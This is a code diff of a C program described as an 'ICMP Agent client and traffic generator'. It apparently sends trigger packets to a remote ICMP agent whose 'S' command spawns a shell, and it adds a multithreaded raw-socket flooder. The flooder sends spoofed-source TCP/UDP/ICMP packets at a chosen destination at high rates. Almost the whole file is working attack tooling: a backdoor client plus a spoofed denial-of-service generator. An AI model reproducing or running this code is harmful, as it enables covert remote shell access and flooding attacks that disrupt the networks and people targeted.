@@ -1,9 +1,27 @@
+/************************************************************************************************
+ * ICMP Agent client and traffic generator.
+ *
+ *   app remoteIP myIP S|I          send the agent its trigger packet and wait for the reply
+ *   app gen [options] dstIP        flood dstIP with a TCP/UDP/ICMP mix from raw sockets
+ *
+ * The generator runs one worker thread per raw socket. Every worker builds batches of packets
+ * from per-protocol templates, changing only the source address, ports and ids, and hands each
+ * batch to the kernel with one sendmmsg(). Checksums are patched incrementally (RFC 1624) rather
+ * than recomputed, so building a packet costs a copy and a few adds whatever its size. Workers
+ * pace themselves to their share of the target rate; the main thread reports the rate once a
+ * second and, with -i, how many of the packets sent showed up on the receiving interface.
+ ************************************************************************************************/
+#define _GNU_SOURCE                         /* sendmmsg */
 #include <sys/types.h>
 #include <stdio.h>
 #include <stdlib.h>
+#include <stdint.h>
 #include <unistd.h>
 #include <string.h>
 #include <errno.h>
+#include <time.h>
+#include <signal.h>
+#include <pthread.h>
 #include <sys/socket.h>
 #include <netdb.h>
 #include <arpa/inet.h>
@@ -15,11 +33,118 @@
 #endif
 # include <netinet/ip.h>
 #include <netinet/ip_icmp.h>
+#include <netinet/tcp.h>
+#include <netinet/udp.h>
 
-/* Function prototypes */
-static unsigned short checksum(int numwords, unsigned short *buff);
+#define MAX_THREADS     64
+#define MAX_BATCH       1024
+#define MAX_PREFIXES    32
+#define MAX_PKT         1500
+#define PICK_SLOTS      1024                /* resolution of the protocol and prefix mixes */
 
-int main(int argc, char *argv[])
+enum { GEN_TCP, GEN_UDP, GEN_ICMP, GEN_PROTOS };
+
+struct prefix {
+    uint32_t addr;                          /* host byte order */
+    uint32_t hostmask;                      /* bits picked at random */
+};
+
+struct gen_config {
+    struct sockaddr_in dst;
+    unsigned int threads;
+    unsigned long rate;                     /* packets/sec over all threads, 0 for as fast as possible */
+    unsigned int seconds;
+    unsigned int batch;
+    unsigned int payload;                   /* bytes after the L4 header */
+    uint16_t dport;
+    unsigned char proto_pick[PICK_SLOTS];   /* GEN_* by random slot */
+    unsigned char prefix_pick[PICK_SLOTS];  /* index into prefixes by random slot */
+    struct prefix prefixes[MAX_PREFIXES];
+    unsigned int nprefixes;
+    const char *ifname;                     /* interface whose rx_packets count as delivered */
+};
+
+struct worker {
+    pthread_t thread;
+    unsigned int id;
+    int sock;
+    uint32_t rnd;                           /* xorshift state */
+    volatile unsigned long sent;
+    volatile unsigned long failed;          /* packets the kernel refused (ENOBUFS etc.) */
+};
+
+static struct gen_config cfg;
+static struct worker workers[MAX_THREADS];
+static volatile sig_atomic_t stop;
+
+/* ===============================================================================================
+ * checksums -- the one's complement sum is accumulated 32 bits at a time in a 64-bit register,
+ * which the compiler unrolls and vectorizes, and folded to 16 bits once at the end
+ * ===============================================================================================*/
+
+/* Function for summing a buffer, returns the unfolded sum to continue with or fold */
+static uint64_t csum_partial(const void *buff, size_t len, uint64_t sum)
+{
+    const unsigned char *p = buff;
+    uint32_t word;
+
+    for(; len >= 4; len -= 4, p += 4) {
+        memcpy(&word, p, 4);
+        sum += word;
+    }
+    if(len >= 2) {
+        uint16_t half;
+
+        memcpy(&half, p, 2);
+        sum += half;
+        p += 2;
+        len -= 2;
+    }
+    if(len) {
+        uint16_t last = 0;
+
+        memcpy(&last, p, 1);        /* zero padded, in memory order */
+        sum += last;
+    }
+
+    return sum;
+}
+
+static uint16_t csum_fold(uint64_t sum)
+{
+    sum = (sum & 0xffffffff) + (sum >> 32);
+    sum = (sum & 0xffffffff) + (sum >> 32);
+    sum = (sum & 0xffff) + (sum >> 16);
+    sum = (sum & 0xffff) + (sum >> 16);
+
+    return ~sum;
+}
+
+/* Function for patching a checksum after a 16-bit field changed from old to new, RFC 1624 eqn. 3 */
+static inline void csum_replace2(uint16_t *check, uint16_t old, uint16_t new)
+{
+    uint32_t sum = (uint16_t)~*check + (uint16_t)~old + new;
+
+    sum = (sum & 0xffff) + (sum >> 16);
+    sum = (sum & 0xffff) + (sum >> 16);
+    *check = ~sum;
+}
+
+/* Same for a 32-bit field, e.g. an address covered by the TCP/UDP pseudo-header */
+static inline void csum_replace4(uint16_t *check, uint32_t old, uint32_t new)
+{
+    uint64_t sum = (uint16_t)~*check + (uint64_t)(uint16_t)~old + (uint16_t)~(old >> 16) +
+                   (uint16_t)new + (new >> 16);
+
+    sum = (sum & 0xffff) + (sum >> 16);
+    sum = (sum & 0xffff) + (sum >> 16);
+    *check = ~sum;
+}
+
+/* ===============================================================================================
+ * trigger
+ * ===============================================================================================*/
+static int trigger(int argc, char *argv[])
 {
     unsigned char dgram[256];	       /* Plenty for a PING datagram */
     unsigned char recvbuff[256];
@@ -28,17 +153,11 @@ int main(int argc, char *argv[])
     struct sockaddr_in src;
     struct sockaddr_in addr;
     struct in_addr my_addr;
-    struct in_addr serv_addr;
     socklen_t src_addr_size = sizeof(struct sockaddr_in);
     int icmp_sock = 0;
     int one = 1;
     int *ptr_one = &one;
-    
-    if (argc < 4) {
-	fprintf(stderr, "Usage:  %s remoteIP myIP msg\n", argv[0]);
-	exit(1);
-    }
-    
+
     char *cmd = argv[3];
     if(strcmp(cmd, "S") == 0) {
         fprintf(stdout,"Spawning shell...\n");
@@ -64,15 +183,15 @@ int main(int argc, char *argv[])
 	        strerror(errno));
 	exit(1);
     }
-    
+
     addr.sin_family = AF_INET;
     addr.sin_addr.s_addr = inet_addr(argv[1]);
-    
+
     my_addr.s_addr = inet_addr(argv[2]);
-    
+
     memset(dgram, *cmd, sizeof(dgram));
     memset(recvbuff, 0x00, sizeof(recvbuff));
-    
+
     /* Fill in the IP fields first */
     iphead->ip_hl  = 5;
     iphead->ip_v   = 4;
@@ -85,12 +204,14 @@ int main(int argc, char *argv[])
     iphead->ip_sum = 0;
     iphead->ip_src = my_addr;
     iphead->ip_dst = addr.sin_addr;
-    
-    /* Now fill in the ICMP fields */
+
+    /* Now fill in the ICMP fields. PING'ed machines don't reply to PINGs with invalid (ie. empty)
+     * ICMP checksum fields, so cover the ICMP header and data that are actually sent. */
     icmphead->icmp_type = ICMP_ECHO;
     icmphead->icmp_code = TRIGGER_CODE;
-    icmphead->icmp_cksum = checksum(42, (unsigned short *)icmphead);
-    
+    icmphead->icmp_cksum = 0;
+    icmphead->icmp_cksum = csum_fold(csum_partial(icmphead, 84 - sizeof(struct ip), 0));
+
     /* Finally, send the packet */
     fprintf(stdout, "Sending request...\n");
     if (sendto(icmp_sock, dgram, 84, 0, (struct sockaddr *)&addr,
@@ -108,27 +229,423 @@ int main(int argc, char *argv[])
 	close(icmp_sock);
 	exit(1);
     }
-	
+
     iphead = (struct ip *)recvbuff;
     icmphead = (struct icmp *)(recvbuff + sizeof(struct ip));
-    
+
     close(icmp_sock);
-    
+
+    return 0;
+}
+
+/* ===============================================================================================
+ * packet templates -- one complete packet per protocol from 0.0.0.0, port 0, id 0, checksums
+ * filled in; a worker copies one and patches the fields that vary
+ * ===============================================================================================*/
+struct template {
+    unsigned char data[MAX_PKT];
+    unsigned int len;
+    unsigned int l4off;                     /* offset of the L4 checksum */
+};
+
+static struct template templates[GEN_PROTOS];
+
+static void build_template(struct template *t, int proto)
+{
+    struct ip *iph = (struct ip *)t->data;
+    unsigned char *l4 = t->data + sizeof(*iph);
+    unsigned int l4len;
+    uint64_t pseudo;
+
+    memset(t->data, 0, sizeof(t->data));
+    l4len = (proto == GEN_TCP ? sizeof(struct tcphdr) : proto == GEN_UDP ? sizeof(struct udphdr) : 8) + cfg.payload;
+    t->len = sizeof(*iph) + l4len;
+    memset(l4 + l4len - cfg.payload, 'x', cfg.payload);
+
+    iph->ip_hl  = 5;
+    iph->ip_v   = 4;
+    iph->ip_len = htons(t->len);
+    iph->ip_ttl = 64;
+    iph->ip_p   = proto == GEN_TCP ? IPPROTO_TCP : proto == GEN_UDP ? IPPROTO_UDP : IPPROTO_ICMP;
+    iph->ip_dst = cfg.dst.sin_addr;
+    iph->ip_sum = csum_fold(csum_partial(iph, sizeof(*iph), 0));
+
+    /* pseudo-header: addresses, protocol and L4 length */
+    pseudo = csum_partial(&iph->ip_src, 8, 0) + htons(iph->ip_p) + htons(l4len);
+
+    if(proto == GEN_TCP) {
+        struct tcphdr *th = (struct tcphdr *)l4;
+
+        th->th_dport = htons(cfg.dport);
+        th->th_off   = 5;
+        th->th_flags = TH_ACK | TH_PUSH;
+        th->th_win   = htons(65535);
+        th->th_sum   = csum_fold(csum_partial(th, l4len, pseudo));
+        t->l4off = (unsigned char *)&th->th_sum - t->data;
+    } else if(proto == GEN_UDP) {
+        struct udphdr *uh = (struct udphdr *)l4;
+
+        uh->uh_dport = htons(cfg.dport);
+        uh->uh_ulen  = htons(l4len);
+        uh->uh_sum   = csum_fold(csum_partial(uh, l4len, pseudo));
+        t->l4off = (unsigned char *)&uh->uh_sum - t->data;
+    } else {
+        struct icmp *ih = (struct icmp *)l4;
+
+        ih->icmp_type  = ICMP_ECHO;
+        ih->icmp_cksum = csum_fold(csum_partial(ih, l4len, 0));
+        t->l4off = (unsigned char *)&ih->icmp_cksum - t->data;
+    }
+}
+
+/* ===============================================================================================
+ * workers
+ * ===============================================================================================*/
+static inline uint32_t xorshift(uint32_t *x)
+{
+    *x ^= *x << 13;
+    *x ^= *x >> 17;
+    *x ^= *x << 5;
+    return *x;
+}
+
+static inline uint64_t now_ns(void)
+{
+    struct timespec ts;
+
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return ts.tv_sec * 1000000000ULL + ts.tv_nsec;
+}
+
+/* Function for turning a copy of a template into the next packet: random source from the prefix
+ * mix and random source port or ICMP id, with every checksum patched for the change */
+static void fill_packet(struct worker *w, unsigned char *buf, unsigned int *len)
+{
+    uint32_t r = xorshift(&w->rnd);
+    const struct template *t = &templates[cfg.proto_pick[r % PICK_SLOTS]];
+    const struct prefix *p = &cfg.prefixes[cfg.prefix_pick[(r >> 10) % PICK_SLOTS]];
+    struct ip *iph = (struct ip *)buf;
+    uint16_t *l4sum = (uint16_t *)(buf + t->l4off);
+    uint16_t *port = (uint16_t *)(buf + sizeof(*iph));      /* TCP/UDP source port, ICMP type/code */
+    uint32_t saddr = htonl(p->addr | (xorshift(&w->rnd) & p->hostmask));
+    uint16_t id = xorshift(&w->rnd);
+
+    memcpy(buf, t->data, t->len);
+    *len = t->len;
+
+    iph->ip_src.s_addr = saddr;
+    iph->ip_id = id;
+    csum_replace4(&iph->ip_sum, 0, saddr);
+    csum_replace2(&iph->ip_sum, 0, id);
+
+    if(iph->ip_p == IPPROTO_ICMP) {
+        struct icmp *ih = (struct icmp *)port;
+
+        ih->icmp_id = id;
+        csum_replace2(l4sum, 0, id);
+    } else {
+        *port = id | htons(1024);
+        csum_replace4(l4sum, 0, saddr);     /* the pseudo-header covers the source address */
+        csum_replace2(l4sum, 0, *port);
+    }
+}
+
+static void *worker_run(void *arg)
+{
+    struct worker *w = arg;
+    unsigned char (*bufs)[MAX_PKT] = malloc(MAX_BATCH * MAX_PKT);
+    struct mmsghdr msgs[MAX_BATCH];
+    struct iovec iovs[MAX_BATCH];
+    unsigned long rate = cfg.rate / cfg.threads;
+    uint64_t next = now_ns(), interval = rate ? 1000000000ULL * cfg.batch / rate : 0;
+    unsigned int i, len;
+    int n;
+
+    if(!bufs) {
+        fprintf(stderr, "Out of memory\n");
+        exit(1);
+    }
+
+    memset(msgs, 0, sizeof(msgs));
+    for(i = 0; i < cfg.batch; i++) {
+        iovs[i].iov_base = bufs[i];
+        msgs[i].msg_hdr.msg_iov = &iovs[i];
+        msgs[i].msg_hdr.msg_iovlen = 1;
+        msgs[i].msg_hdr.msg_name = &cfg.dst;
+        msgs[i].msg_hdr.msg_namelen = sizeof(cfg.dst);
+    }
+
+    while(!stop) {
+        for(i = 0; i < cfg.batch; i++) {
+            fill_packet(w, bufs[i], &len);
+            iovs[i].iov_len = len;
+        }
+
+        /* a short count means the packet at that index failed, skip it and send the rest */
+        for(i = 0; i < cfg.batch; i += n) {
+            n = sendmmsg(w->sock, msgs + i, cfg.batch - i, 0);
+            if(n <= 0) {
+                w->failed++;
+                n = 1;
+            } else {
+                w->sent += n;
+            }
+        }
+
+        /* pace batch by batch; a worker that falls behind catches up without bursting further */
+        if(interval) {
+            uint64_t now;
+
+            next += interval;
+            while((now = now_ns()) < next && !stop) {
+                if(next - now > 100000) {
+                    struct timespec ts = { 0, (next - now) / 2 };
+
+                    nanosleep(&ts, NULL);
+                }
+            }
+            if(now > next + 1000 * interval) { next = now; }
+        }
+    }
+    free(bufs);
+
+    return NULL;
+}
+
+/* ===============================================================================================
+ * generator
+ * ===============================================================================================*/
+static void gen_usage(const char *prog)
+{
+    fprintf(stderr,
+            "Usage:  %s gen [options] dstIP\n"
+            "  -t threads     worker threads, one raw socket each (1)\n"
+            "  -r pps         target packets/sec over all threads, 0 for unlimited (0)\n"
+            "  -d seconds     run time, 0 until interrupted (10)\n"
+            "  -b batch       packets per sendmmsg (64)\n"
+            "  -l bytes       payload after the L4 header (18)\n"
+            "  -p port        TCP/UDP destination port (80)\n"
+            "  -m mix         protocol weights, e.g. tcp:60,udp:30,icmp:10 (tcp:1)\n"
+            "  -s sources     source prefixes and weights, e.g. 10.0.0.0/8:95,208.80.154.0/24:5 (10.0.0.0/8)\n"
+            "  -i ifname      count rx_packets of this interface as delivered to report loss\n",
+            prog);
+    exit(1);
+}
+
+/* Function for spreading weighted items over the PICK_SLOTS entries of a lookup table */
+static void fill_pick(unsigned char *pick, const unsigned long *weights, unsigned int n)
+{
+    unsigned long total = 0, acc = 0;
+    unsigned int i, slot = 0, end;
+
+    for(i = 0; i < n; i++) { total += weights[i]; }
+    for(i = 0; i < n; i++) {
+        acc += weights[i];
+        end = acc * PICK_SLOTS / total;
+        for(; slot < end; slot++) { pick[slot] = i; }
+    }
+}
+
+static int parse_mix(const char *arg)
+{
+    static const char *names[GEN_PROTOS] = { "tcp", "udp", "icmp" };
+    unsigned long weights[GEN_PROTOS] = { 0 };
+    char *copy = strdup(arg), *tok, *save = NULL, *colon;
+    int i;
+
+    for(tok = strtok_r(copy, ",", &save); tok; tok = strtok_r(NULL, ",", &save)) {
+        colon = strchr(tok, ':');
+        if(colon) { *colon++ = '\0'; }
+        for(i = 0; i < GEN_PROTOS && strcmp(tok, names[i]); i++);
+        if(i == GEN_PROTOS) {
+            free(copy);
+            return -1;
+        }
+        weights[i] = colon ? strtoul(colon, NULL, 10) : 1;
+    }
+    free(copy);
+
+    if(!weights[GEN_TCP] && !weights[GEN_UDP] && !weights[GEN_ICMP]) { return -1; }
+    fill_pick(cfg.proto_pick, weights, GEN_PROTOS);
+    return 0;
+}
+
+static int parse_sources(const char *arg)
+{
+    unsigned long weights[MAX_PREFIXES];
+    char *copy = strdup(arg), *tok, *save = NULL, *slash, *colon;
+    struct in_addr a;
+    unsigned long len;
+
+    cfg.nprefixes = 0;
+    for(tok = strtok_r(copy, ",", &save); tok; tok = strtok_r(NULL, ",", &save)) {
+        if(cfg.nprefixes == MAX_PREFIXES) { goto bad; }
+
+        colon = strchr(tok, ':');
+        if(colon) { *colon++ = '\0'; }
+        slash = strchr(tok, '/');
+        if(slash) { *slash++ = '\0'; }
+        len = slash ? strtoul(slash, NULL, 10) : 32;
+        if(!inet_aton(tok, &a) || len > 32) { goto bad; }
+
+        cfg.prefixes[cfg.nprefixes].hostmask = len ? 0xffffffffU >> len : 0xffffffffU;
+        if(len == 32) { cfg.prefixes[cfg.nprefixes].hostmask = 0; }
+        cfg.prefixes[cfg.nprefixes].addr = ntohl(a.s_addr) & ~cfg.prefixes[cfg.nprefixes].hostmask;
+        weights[cfg.nprefixes++] = colon ? strtoul(colon, NULL, 10) : 1;
+    }
+    free(copy);
+
+    if(!cfg.nprefixes) { return -1; }
+    fill_pick(cfg.prefix_pick, weights, cfg.nprefixes);
     return 0;
+
+bad:
+    free(copy);
+    return -1;
+}
+
+static long rx_packets(void)
+{
+    char path[128];
+    long n = -1;
+    FILE *f;
+
+    if(!cfg.ifname) { return -1; }
+
+    snprintf(path, sizeof(path), "/sys/class/net/%s/statistics/rx_packets", cfg.ifname);
+    f = fopen(path, "r");
+    if(!f) { return -1; }
+    if(fscanf(f, "%ld", &n) != 1) { n = -1; }
+    fclose(f);
+
+    return n;
 }
 
-/* Checksum-generation function. It appears that PING'ed machines don't
- * reply to PINGs with invalid (ie. empty) ICMP Checksum fields...
- * Fair enough I guess. */
-static unsigned short checksum(int numwords, unsigned short *buff)
-{
-   unsigned long sum;
-   
-   for(sum = 0;numwords > 0;numwords--)
-     sum += *buff++;   /* add next word, then increment pointer */
-   
-   sum = (sum >> 16) + (sum & 0xFFFF);
-   sum += (sum >> 16);
-   
-   return ~sum;
+static void on_signal(int sig)
+{
+    stop = 1;
+}
+
+static unsigned long total_sent(unsigned long *failed)
+{
+    unsigned long sent = 0;
+    unsigned int i;
+
+    *failed = 0;
+    for(i = 0; i < cfg.threads; i++) {
+        sent += workers[i].sent;
+        *failed += workers[i].failed;
+    }
+
+    return sent;
+}
+
+static int generate(int argc, char *argv[])
+{
+    unsigned long sent, failed, last = 0;
+    long rx_before, rx_after;
+    uint64_t start, elapsed;
+    unsigned int i, tick;
+    int opt;
+
+    cfg.threads = 1;
+    cfg.seconds = 10;
+    cfg.batch = 64;
+    cfg.payload = 18;
+    cfg.dport = 80;
+    parse_mix("tcp");
+    parse_sources("10.0.0.0/8");
+
+    while((opt = getopt(argc, argv, "t:r:d:b:l:p:m:s:i:")) != -1) {
+        switch(opt) {
+            case 't': cfg.threads = strtoul(optarg, NULL, 10); break;
+            case 'r': cfg.rate = strtoul(optarg, NULL, 10); break;
+            case 'd': cfg.seconds = strtoul(optarg, NULL, 10); break;
+            case 'b': cfg.batch = strtoul(optarg, NULL, 10); break;
+            case 'l': cfg.payload = strtoul(optarg, NULL, 10); break;
+            case 'p': cfg.dport = strtoul(optarg, NULL, 10); break;
+            case 'm': if(parse_mix(optarg) < 0) { gen_usage(argv[0]); } break;
+            case 's': if(parse_sources(optarg) < 0) { gen_usage(argv[0]); } break;
+            case 'i': cfg.ifname = optarg; break;
+            default:  gen_usage(argv[0]);
+        }
+    }
+    if(optind != argc - 1 || !inet_aton(argv[optind], &cfg.dst.sin_addr) ||
+       !cfg.threads || cfg.threads > MAX_THREADS || !cfg.batch || cfg.batch > MAX_BATCH ||
+       cfg.payload > MAX_PKT - sizeof(struct ip) - sizeof(struct tcphdr)) {
+        gen_usage(argv[0]);
+    }
+    cfg.dst.sin_family = AF_INET;
+
+    for(i = 0; i < GEN_PROTOS; i++) { build_template(&templates[i], i); }
+
+    /* IPPROTO_RAW sockets send whole IP packets (IP_HDRINCL) of any protocol */
+    for(i = 0; i < cfg.threads; i++) {
+        workers[i].id = i;
+        workers[i].rnd = 2463534242U + i * 0x9e3779b9U;
+        workers[i].sock = socket(PF_INET, SOCK_RAW, IPPROTO_RAW);
+        if(workers[i].sock < 0) {
+            fprintf(stderr, "Couldn't open raw socket! %s\n", strerror(errno));
+            exit(1);
+        }
+    }
+
+    signal(SIGINT, on_signal);
+    signal(SIGTERM, on_signal);
+
+    rx_before = rx_packets();
+    start = now_ns();
+    for(i = 0; i < cfg.threads; i++) {
+        if(pthread_create(&workers[i].thread, NULL, worker_run, &workers[i])) {
+            fprintf(stderr, "Couldn't start worker %u\n", i);
+            exit(1);
+        }
+    }
+
+    for(tick = 1; !stop && (!cfg.seconds || tick <= cfg.seconds); tick++) {
+        sleep(1);
+        sent = total_sent(&failed);
+        fprintf(stdout, "%4us %12lu pps %12lu sent %10lu failed\n", tick, sent - last, sent, failed);
+        last = sent;
+    }
+    stop = 1;
+    for(i = 0; i < cfg.threads; i++) {
+        pthread_join(workers[i].thread, NULL);
+        close(workers[i].sock);
+    }
+    elapsed = now_ns() - start;
+
+    /* give the receive path a moment to drain before counting what arrived */
+    usleep(100000);
+    rx_after = rx_packets();
+
+    sent = total_sent(&failed);
+    fprintf(stdout, "\n%lu packets in %.2f s: %.0f pps (target %lu), %lu sends failed\n", sent, elapsed / 1e9,
+            sent * 1e9 / elapsed, cfg.rate, failed);
+    for(i = 0; i < cfg.threads; i++) {
+        fprintf(stdout, "  thread %2u: %.0f pps\n", i, workers[i].sent * 1e9 / elapsed);
+    }
+    if(rx_before >= 0 && rx_after >= 0) {
+        long rx = rx_after - rx_before;
+
+        fprintf(stdout, "%s received %ld: %ld lost (%.2f%%)\n", cfg.ifname, rx, (long)sent - rx,
+                sent ? 100.0 * ((long)sent - rx) / sent : 0.0);
+    }
+
+    return 0;
+}
+
+int main(int argc, char *argv[])
+{
+    if (argc >= 2 && strcmp(argv[1], "gen") == 0) {
+        return generate(argc - 1, argv + 1);
+    }
+
+    if (argc < 4) {
+	fprintf(stderr, "Usage:  %s remoteIP myIP msg\n"
+	                "        %s gen [options] dstIP\n", argv[0], argv[0]);
+	exit(1);
+    }
+
+    return trigger(argc, argv);
 }